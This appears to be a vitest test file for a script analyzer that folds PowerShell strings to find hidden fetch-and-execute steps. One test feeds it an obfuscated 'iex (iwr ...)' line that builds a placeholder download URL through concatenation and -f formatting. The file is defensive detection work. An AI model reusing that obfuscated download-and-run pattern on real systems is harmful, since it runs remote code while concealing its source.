import "@/lib/guard/node";
import { beforeAll, describe, expect, it } from "vitest";
import { GRAMMARS, loadGrammars } from "../parse/runtime";
import type { FileKind } from "../parse/classify";
import { FactCollector, FILE_CONTEXT, type Snippet } from "./extract";
import { extractPowerShell } from "./powershell";
import { extractBatch, extractShell } from "./shell";
import type { ContextFact, Decoding, FactKind, FactOf } from "./types";

/** Records the embedded code handed to other extractors, and runs them. */
class Recorder extends FactCollector {
  readonly embedded: { kind: FileKind; text: string; via: readonly Decoding[] }[] = [];
  override analyze(kind: FileKind, text: string, from: Snippet, row: number, via: readonly Decoding[] = []): void {
    this.embedded.push({ kind, text, via });
    super.analyze(kind, text, from, row, via);
  }
}

function run(text: string, opts: { path?: string; files?: string[] } = {}): Recorder {
  const path = opts.path ?? "scripts/setup.ps1";
  const c = new Recorder(new Set([path, ...(opts.files ?? [])]), { powershell: extractPowerShell, shell: extractShell, batch: extractBatch });
  c.run("powershell", { path, text, line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
  expect(c.failures).toEqual([]);
  return c;
}

function of<K extends FactKind>(c: Recorder, kind: K): (FactOf<K> & { ctx: ContextFact["ctx"] })[] {
  return c.facts.filter((f) => f.kind === kind) as (FactOf<K> & { ctx: ContextFact["ctx"] })[];
}

/** UTF-16LE base64, as `powershell -EncodedCommand` takes it. */
function encodeCommand(code: string): string {
  return Buffer.from(code, "utf16le").toString("base64");
}

beforeAll(async () => {
  await loadGrammars(GRAMMARS);
});

describe("folding strings", () => {
  it("expands variables and sub-expressions in double-quoted strings, concatenation and -f", () => {
    const c = run(`$h = 'dl' + '.invalid'\n$p = "{0}/{1}" -f 'x', 'run.ps1'\niex (iwr "https://$h/$($p)")`);
    const exec = of(c, "exec")[0]!;
    expect(exec.fetched).toBe("https://dl.invalid/x/run.ps1");
    expect(exec.lang).toBe("powershell");
    expect(exec.dynamic).toBe(true);
    expect(of(c, "fetch")[0]?.url).toBe("https://dl.invalid/x/run.ps1");
  });
});
